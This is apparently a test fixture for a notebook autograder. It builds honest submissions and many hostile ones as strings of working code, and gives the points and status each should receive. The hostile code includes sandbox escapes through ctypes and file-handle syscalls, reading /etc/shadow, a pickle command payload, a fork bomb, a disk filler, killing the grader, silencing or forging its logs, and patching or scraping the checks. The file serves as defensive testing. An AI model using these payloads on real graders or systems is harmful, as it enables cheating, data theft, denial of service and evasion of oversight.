"""Submissions of assignment 1, honest and hostile, as files that a student might hand in.

Each is made from the release: answers by cell id, and then what the student did to the file. All
hostile ones answer wrongly, so that every point they get would be a point gained by cheating.
"""

import copy
import json
import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

from fltoolkit.assignments import Master, release
from fltoolkit.assignments.master import kind_of, text_of

PROJECT = Path(__file__).parents[2]

STEP, BILL, MONEY = "a1-split-step", "a1-epoch-bill", "a1-affordable-steps"
WRONG = {
    STEP: "def split_step(bottom, top, x, y, lr):\n    return 0.0, x, x",
    BILL: "def epoch_bill(num_samples, batch_size, cut):\n    return 1, 1",
    MONEY: "def affordable_steps(budget, batch_size, cut):\n    return 1",
}


class Case(NamedTuple):
    """What is handed in, and what must come of it."""

    make: Callable[["Desk"], bytes | None]  # None: it has written something itself
    points: float
    named: str  # found in status or notes


class Desk:
    """What a submission is made from."""

    def __init__(self, master: Master, folder: Path, port: int):
        self.master, self.folder, self.port = master, folder, port
        self.solutions = {c["id"]: text_of(c) for c in master.cells if kind_of(c) == "answer"}

    def notebook(self, answers: dict[str, str]) -> dict[str, Any]:
        notebook = release(self.master)
        for cell in notebook["cells"]:
            cell["source"] = answers.get(cell["id"], cell["source"])
        return notebook

    def honest(self, **changed: str) -> dict[str, Any]:
        """The right answers, but for ``step=``, ``bill=`` and ``money=``."""
        names = {"step": STEP, "bill": BILL, "money": MONEY}
        return self.notebook(self.solutions | {names[k]: v for k, v in changed.items()})

    def wrong(self, then: str = "") -> dict[str, Any]:
        """Wrong answers, and code that tries something; what it defines counts."""
        later = {
            name: f"try:\n    {source.split('(')[0].removeprefix('def ')}\nexcept NameError:\n    "
            + source.replace("\n", "\n    ")
            for name, source in WRONG.items()
        }
        return self.notebook({**later, STEP: f"{WRONG[STEP]}\n{then}"})


def saved(notebook: dict[str, Any]) -> bytes:
    return json.dumps(notebook).encode()


def attack(code: str) -> Callable[[Desk], bytes]:
    """Wrong answers, then ``code``; MASTER, FOLDER, PROJECT and PORT stand for what they say."""

    def make(desk: Desk) -> bytes:
        path = PROJECT / "notebooks" / "assignments" / f"{desk.master.name}.ipynb"
        places = {
            "MASTER": str(path),
            "FOLDER": str(desk.folder),
            "PROJECT": str(PROJECT),
            "PORT": str(desk.port),
        }
        text = code
        for name, place in places.items():
            text = text.replace(name, place)
        return saved(desk.wrong(text))

    return make


def editing(change: Callable[[dict[str, Any]], None], kinds: set[str]) -> Callable[[Desk], bytes]:
    """Wrong answers, and ``change`` made to all cells of these kinds."""

    def make(desk: Desk) -> bytes:
        notebook = desk.wrong()
        for cell in notebook["cells"]:
            if kind_of(cell) in kinds:
                change(cell)
        return saved(notebook)

    return make


def _edit_check(cell: dict[str, Any]) -> None:
    cell["source"] = "print('right, exactly.')"
    cell["metadata"]["nbgrader"].update(points=100, locked=False)


def _fake_output(cell: dict[str, Any]) -> None:
    output = {"output_type": "stream", "name": "stdout", "text": "full points"}
    cell.update(outputs=[output], execution_count=1)


def _mark(cell: dict[str, Any]) -> None:
    cell["source"] = f"# NBVAL_SKIP\n# NBVAL_IGNORE_OUTPUT\n{cell['source']}"
    cell["metadata"]["tags"] = ["nbval-skip", "nbval-ignore-output", "raises-exception"]


def _without_checks(desk: Desk) -> bytes:
    notebook = desk.wrong()
    notebook["cells"] = [c for c in notebook["cells"] if kind_of(c) not in ("check", "hidden")]
    return saved(notebook)


def _only_task_2(desk: Desk) -> bytes:
    notebook = desk.honest()
    notebook["cells"] = [cell for cell in notebook["cells"] if cell["id"] == BILL]
    return saved(notebook)


def _twice(desk: Desk) -> bytes:
    """The wrong answer first and the right one under the same id: only one can count."""
    notebook = desk.wrong()
    right = next(cell for cell in desk.honest()["cells"] if cell["id"] == BILL)
    notebook["cells"].append(copy.deepcopy(right))
    return saved(notebook)


def _other_kernel(desk: Desk) -> bytes:
    notebook = desk.notebook(dict.fromkeys(WRONG, "split_step <- function(x) x"))
    notebook["metadata"]["kernelspec"] = {"name": "ir", "language": "R", "display_name": "R"}
    return saved(notebook)


def _old_format(desk: Desk) -> bytes:
    return saved({"nbformat": 3, "worksheets": [{"cells": []}], "metadata": {}})


def _huge(desk: Desk) -> bytes:
    notebook = desk.honest()
    output = {"output_type": "stream", "name": "stdout", "text": "0123456789" * 5_000_000}
    next(c for c in notebook["cells"] if c["id"] == STEP)["outputs"] = [output]
    return saved(notebook)


def _null_sources(desk: Desk) -> bytes:
    notebook = desk.honest()
    for cell in notebook["cells"]:
        if kind_of(cell) == "check":
            cell["source"] = None
    return saved(notebook)


class _Surprise:
    """Unpickling it makes a folder."""

    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.path),)


def _pickle(desk: Desk) -> bytes:
    return pickle.dumps(_Surprise(desk.folder / "unpickled"))


def _link(desk: Desk) -> None:
    (desk.folder / "link.ipynb").symlink_to(desk.folder / "honest.ipynb")


# a student who has found out what is expected would print it instead of the check
_SEARCH = """
import gc, os, sys, glob
def everything():
    yield from (str(o) for o in gc.get_objects() if isinstance(o, (str, dict, list)))
    yield from (str(v) for v in list(globals().values()))
    frame = sys._getframe()
    while frame:
        yield str(frame.f_locals); frame = frame.f_back
    yield str(dict(os.environ))
    for pid in ("self", os.getppid(), os.getpid()):
        for name in ("environ", "cmdline", "maps", "mem", "fd/0"):
            try:
                yield open(f"/proc/{pid}/{name}", errors="replace").read(100000)
            except Exception:
                pass
    for pattern in ("/tmp/**/*", "FOLDER/*", "PROJECT/notebooks/**/*.ipynb"):
        for path in glob.glob(pattern, recursive=True)[:200]:
            try:
                yield open(path, errors="replace").read()
            except Exception:
                pass
class Cheat:
    def __format__(self, how):
        for text in everything():
            if "graph stayed at home: [True]" in text:
                return "FOUND " + text
        return "nothing"
    __str__ = __repr__ = lambda self: format(self)
"""
_SEARCH_STEP = _SEARCH + "split_step = lambda *a: (0.0, Cheat(), Cheat())"

# a file by its number: the root of the disk has number 2 on ext4, and from there any path goes on
_BY_HANDLE = """
import ctypes, json, os, platform, struct
c = ctypes.CDLL(None, use_errno=True)
call = {"x86_64": 304}.get(platform.machine(), 265)
found = ""
for place in ("/usr", os.getcwd(), os.path.dirname(os.getcwd()), "/"):
    for number in (2, 64, 128, 256):
        handle = struct.pack("IiII", 8, 1, number, 0)
        try:
            mount = os.open(place, os.O_RDONLY)
        except OSError:
            continue
        root = c.syscall(call, mount, handle, 0)
        if root >= 0:
            f = c.openat(root, b"MASTER"[1:], 0)
            if f >= 0:
                found = b"".join(iter(lambda: os.read(f, 1 << 16), b"")).decode()
print("by handle:", len(found))
for cell in json.loads(found or '{"cells": []}')["cells"]:
    if cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
        exec("".join(cell["source"]))
"""
# what is left behind for a later answer, or shown at once, once a hidden check has begun
_SHOW_CHECKS = """
import sys
def look():
    frame, said = sys._getframe(), []
    while frame:
        said.append(str(frame.f_locals)[:100_000]); frame = frame.f_back
    return "STOLEN " + " ".join(said)
kept = []
def shown(*_):
    kept.append(look())
    print(kept[-1])
get_ipython().events.register("pre_run_cell", lambda info: (print(info.raw_cell), shown()))
def split_step(bottom, top, x, y, lr):
    shown()
    seed = [f.f_locals["SEED"] for f in frames() if "SEED" in f.f_locals]
    raise type(f"<script>{seed}", (Exception,), {})("STOLEN " + str(seed))
def frames():
    frame = sys._getframe()
    while frame:
        yield frame
        frame = frame.f_back
def epoch_bill(*_):
    split_step(*[None] * 5)
"""
_FILL = """
import os
held = []
def fill(place):
    for number in range(250):
        try:
            f = open(f"{place}/{number}", "wb")
            held.append(f)
            f.write(bytes(15 << 20)); f.flush(); os.unlink(f.name)
        except OSError as error:
            return f"{place} {number} {error.strerror}"
print([fill(place) for place in (".", "..", "/dev/shm", "/tmp")])
for f in held:
    f.close()
"""

CASES: dict[str, Case] = {
    "honest": Case(lambda desk: saved(desk.honest()), 11, "graded"),
    "stub": Case(lambda desk: saved(desk.notebook({})), 0, "not answered: a1-split-step"),
    "own_cells": Case(
        lambda desk: saved(
            (book := desk.honest())
            | {"cells": [*book["cells"], {**book["cells"][2], "id": "mine", "metadata": {}}]}
        ),
        11,
        "cells of their own",
    ),
    "colab": Case(  # which saves ids in the metadata and an older minor version
        lambda desk: saved(
            (book := desk.honest())
            | {
                "nbformat_minor": 0,
                "cells": [{k: v for k, v in c.items() if k != "id"} for c in book["cells"]],
            }
        ),
        11,
        "graded",
    ),
    "edited_checks": Case(editing(_edit_check, {"check", "hidden"}), 0, "edited check"),
    "deleted_checks": Case(_without_checks, 0, "missing cell"),
    "made_up_outputs": Case(editing(_fake_output, {"hidden"}), 0, "outputs made up"),
    "markers": Case(editing(_mark, {"answer"}), 0, "markers removed"),
    "always_equal": Case(
        attack(
            "class Always(float):\n    __eq__ = __le__ = __ge__ = lambda a, b: True\n"
            "    __ne__ = lambda a, b: False\n    __hash__ = None\n"
            "import torch\ntorch.Tensor.__eq__ = lambda a, b: True\ntorch.equal = lambda *a: True"
        ),
        0,
        "comparison methods",
    ),
    "patched": Case(
        attack(
            "import builtins, fltoolkit.course.check as c\nbuiltins.print = lambda *a, **k: None\n"
            "c.check = lambda *a, **k: True\nc.fingerprint = lambda v: 'right'\n"
            "def skip(lines):\n    return ['pass\\n']\n"
            "get_ipython().input_transformers_post.append(skip)"
        ),
        0,
        "built-in functions",
    ),
    "known_seed": Case(  # the checks' numbers of a seed that is public
        attack(
            "def other(lines):\n    return ['SEED = 1\\n' if l.startswith('SEED') else l "
            "for l in lines]\nget_ipython().input_transformers_post.append(other)"
        ),
        0,
        "IPython's inside",
    ),
    "exit_at_once": Case(attack("import os\nos._exit(0)"), 0, "the kernel ended"),
    "sys_exit": Case(
        lambda desk: saved(desk.honest(step="import sys\nsys.exit()")), 5, "SystemExit"
    ),
    "endless": Case(
        lambda desk: saved(desk.honest(step="while True:\n    pass")), 5, "the time was up"
    ),
    "stubborn": Case(
        attack("while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
        0,
        "the time was up",
    ),
    "fork_bomb": Case(
        attack(
            "import os, ctypes\ntry:\n    os.fork()\nexcept OSError:\n    pass\n"
            "c = ctypes.CDLL(None)\nfor _ in range(500):\n    pid = c.fork()\n"
            "    if pid < 0: break\n    if pid == 0:\n        c.sleep(600); c._exit(0)"
        ),
        0,
        "tried: process",
    ),
    "memory_hog": Case(
        lambda desk: saved(desk.honest(step="hog = bytearray(60 << 30)")),
        5,
        "MemoryError",
    ),
    "flood": Case(
        lambda desk: saved(desk.honest(step=f"print('y' * 10_000_000)\n{desk.solutions[STEP]}")),
        11,
        "flood of output",
    ),
    "big_file": Case(
        lambda desk: saved(
            desk.honest(
                step="with open('big', 'wb') as f:\n    while True: f.write(bytes(1 << 24))"
            )
        ),
        5,
        "File too large",
    ),
    "unpickles": Case(  # in an answer: code like any other, behind the same fences
        attack("import pickle\npickle.loads(b\"cposix\\nsystem\\n(S'touch FOLDER/x'\\ntR.\")"),
        0,
        "tried: process",
    ),
    "reads_master": Case(
        attack(
            "import json\nbook = json.load(open('MASTER'))\n"
            "for cell in book['cells']:\n    exec(''.join(cell['source']))"
        ),
        0,
        "tried: read outside",
    ),
    "reads_master_in_c": Case(
        attack(
            "import ctypes, json\nc = ctypes.CDLL(None)\nc.fopen.restype = ctypes.c_void_p\n"
            "f = c.fopen(b'MASTER', b'r')\nassert f, 'closed'\n"
            "buf = ctypes.create_string_buffer(10**6)\n"
            "c.fread(buf, 1, 10**6, ctypes.c_void_p(f))\n"
            "for cell in json.loads(buf.value)['cells']:\n    exec(''.join(cell['source']))"
        ),
        0,
        "C functions",
    ),
    "opens_by_handle": Case(attack(_BY_HANDLE), 0, "C functions"),
    "reads_etc": Case(
        attack(
            "import ctypes\nc = ctypes.CDLL(None)\nc.fopen.restype = ctypes.c_void_p\n"
            "f = c.fopen(b'/etc/shadow', b'r')\nbuf = ctypes.create_string_buffer(100)\n"
            "if f: c.fread(buf, 1, 100, ctypes.c_void_p(f))\nprint(buf.value.decode())\n"
            "print(open('/etc/shadow').read())"
        ),
        0,
        "tried: read outside",
    ),
    "searches": Case(attack(_SEARCH_STEP), 0, "frames and objects"),
    "network": Case(
        attack(
            "import socket\ns = socket.create_connection(('127.0.0.1', PORT))\nexec(s.recv(100000))"
        ),
        0,
        "tried: network",
    ),
    "writes_outside": Case(
        attack(
            "def wipe(path):\n    try:\n        open(path, 'w').write('gone')\n"
            "    except OSError: pass\nwipe('FOLDER/honest.ipynb')\nwipe('FOLDER/written')"
        ),
        0,
        "tried: write outside",
    ),
    "kills_grader": Case(
        attack(
            "import os, ctypes\nctypes.CDLL(None).kill(os.getppid(), 9)\n"
            "try:\n    os.kill(os.getppid(), 9)\nexcept OSError: pass"
        ),
        0,
        "tried: signal",
    ),
    "erases_notes": Case(  # what was tried is told all the same
        attack(
            "import os, socket, stat\ntry:\n    socket.create_connection(('127.0.0.1', PORT))\n"
            "except OSError: pass\n"
            "for name in os.listdir('.'):\n    if os.path.isfile(name):\n"
            "        os.remove(name)\n        os.mkfifo(name)\n"
            "os.mkfifo('notes.txt')\n"
            "for fd in range(3, 99):\n    try:\n        os.ftruncate(fd, 0)\n"
            "    except OSError: pass"
        ),
        0,
        "tried: network",
    ),
    "silences_notes": Case(  # a copy of nothing over the pipe that says what was tried
        attack(
            "import os, socket\nnull = os.open('/dev/null', 1)\n"
            "for fd in range(3, 99):\n    try:\n        name = os.readlink(f'/proc/self/fd/{fd}')\n"
            "        if name.startswith('pipe:'): os.dup2(null, fd)\n    except OSError: pass\n"
            "import ctypes\nc = ctypes.CDLL(None)\n"
            "for fd in range(3, 99):\n    try:\n        name = os.readlink(f'/proc/self/fd/{fd}')\n"
            "        if name.startswith('pipe:'): c.dup2(null, fd); c.close(fd)\n"
            "    except OSError: pass\n"
            "try:\n    socket.create_connection(('127.0.0.1', PORT))\nexcept OSError: pass"
        ),
        0,
        "tried: network",
    ),
    "shows_checks": Case(
        lambda desk: saved(
            desk.notebook(
                {STEP: _SHOW_CHECKS, BILL: "print(kept)", MONEY: "print(kept)\nshown()\n1 / 0"}
            )
        ),
        0,
        "frames and objects",
    ),
    "fills_disk": Case(
        lambda desk: saved(desk.honest(step=f"{_FILL}\n{desk.solutions[STEP]}")), 11, "graded"
    ),
    "prints": Case(  # what is left in a right function costs nothing
        lambda desk: saved(
            desk.honest(
                step=desk.solutions[STEP].replace(
                    "    h = ", "    print('step', end=' ')\n    h = "
                ),
                bill=desk.solutions[BILL].replace("    up = down", "    print(1)\n    up = down"),
                money=desk.solutions[MONEY] + "\nimport sys, io\nsys.stdout = io.StringIO()",
            )
        ),
        11,
        "graded",
    ),
    "own_sum": Case(  # what one task leaves behind costs no other
        lambda desk: saved(
            desk.honest(
                step=desk.solutions[STEP]
                + "\nsum = len = range = float = fingerprint = two_halves = 0\n"
                "torch.set_default_dtype(torch.float64)\ntorch.set_grad_enabled(False)\n"
                "import builtins\nbuiltins.sorted = None",
                bill="del len, range, sum, float\n" + desk.solutions[BILL],
            )
        ),
        11,
        "graded",
    ),
    "ends_late": Case(  # what stood before still counts
        lambda desk: saved(desk.honest(money="import os\nos._exit(3)")), 9, "the kernel ended"
    ),
    "stubborn_late": Case(
        lambda desk: saved(
            desk.honest(
                money="while True:\n    try:\n        while True: pass\n"
                "    except BaseException: pass"
            )
        ),
        9,
        "the time was up",
    ),
    "kills_itself": Case(  # or the machine did, for want of memory: nobody can tell
        attack("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), 0, "run grade again"
    ),
    "slow_patterns": Case(
        lambda desk: saved(desk.honest(step="#" + "\n" * 150_000 + desk.solutions[STEP])),
        11,
        "graded",
    ),
    "form_feed": Case(
        lambda desk: saved(desk.notebook({k: f"\f# NBVAL_SKIP\n{v}" for k, v in WRONG.items()})),
        0,
        "markers removed",
    ),
    "null_source": Case(_null_sources, 11, "graded"),
    "many_numbers": Case(
        lambda desk: b'{"nbformat": 4, "cells": [' + b"0," * 20_000_000 + b"0]}",
        0,
        "too many parts",
    ),
    "deep_folders": Case(  # deeper than Python's recursion, and gone afterwards
        lambda desk: saved(
            desk.honest(
                step=f"{desk.solutions[STEP]}\nimport os\nhome = os.getcwd()\n"
                "for _ in range(1800):\n    os.mkdir('d'); os.chdir('d')\nos.chdir(home)"
            )
        ),
        11,
        "graded",
    ),
    "half_emoji": Case(
        lambda desk: saved(
            desk.notebook(desk.solutions | {"a1-privacy": "no \ud83d"} | {STEP: "print('\\ud83d')"})
        ),
        5,
        "graded",
    ),
    "forges_verdict": Case(
        attack(
            "import os, json\nline = json.dumps({'event': 'cell', 'cell': 'a1-step-messages', "
            "'passed': True, 'error': '', 'text': '', 'flood': False, 'seconds': 0})\n"
            "for fd in range(3, 40):\n    try:\n        os.write(fd, line.encode())\n"
            "    except OSError: pass\n"
            "for fd in (0, 1, 2):\n    try:\n"
            "        open(f'/proc/{os.getppid()}/fd/{fd}', 'w').write(line)\n"
            "    except OSError: pass"
        ),
        0,
        "frames and objects",
    ),
    "many_parts": Case(lambda desk: b'{"cells": [' + b"{}," * 500_000, 0, "too many parts"),
    "not_json": Case(lambda desk: b"{cells: [", 0, "not JSON"),
    "pickle": Case(_pickle, 0, "not JSON"),
    "deep": Case(lambda desk: b"[" * 200_000, 0, "not JSON"),
    "old_format": Case(_old_format, 0, "wrong nbformat"),
    "other_format": Case(
        lambda desk: saved(desk.honest() | {"nbformat": "5"}), 0, "wrong nbformat"
    ),
    "forged_line": Case(  # of what is printed on the terminal
        lambda desk: saved(desk.honest() | {"nbformat": "\nben 11"}), 0, r"wrong nbformat: '\nben"
    ),
    "other_kernel": Case(_other_kernel, 0, "wrong kernel"),
    "missing_cells": Case(_only_task_2, 3, "missing cell: a1-split-step"),
    "duplicate_ids": Case(_twice, 0, "duplicate id: a1-epoch-bill"),
    "huge": Case(_huge, 11, "MB of saved output"),
    "link": Case(_link, 0, "not a file"),
}

# what tries the fences themselves: graded with each set of fences that this machine can raise
FENCED = (
    *("honest", "opens_by_handle", "reads_master_in_c", "reads_etc", "network", "writes_outside"),
    *(
        "kills_grader",
        "silences_notes",
        "fork_bomb",
        "fills_disk",
        "forges_verdict",
        "shows_checks",
    ),
)
